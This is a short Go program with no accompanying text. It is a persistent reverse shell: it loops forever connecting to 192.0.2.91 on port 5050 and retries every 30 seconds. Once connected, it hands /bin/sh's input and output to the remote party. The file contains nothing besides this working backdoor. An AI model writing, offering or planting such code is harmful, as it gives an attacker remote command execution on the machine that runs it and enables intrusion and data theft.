package main

import (
	"net"
	"os/exec"
	"time"
)

func main() {
	for {
		c, err := net.Dial("tcp", "192.0.2.91:5050")
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh")
		cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
		cmd.Run()
		c.Close()
	}
}
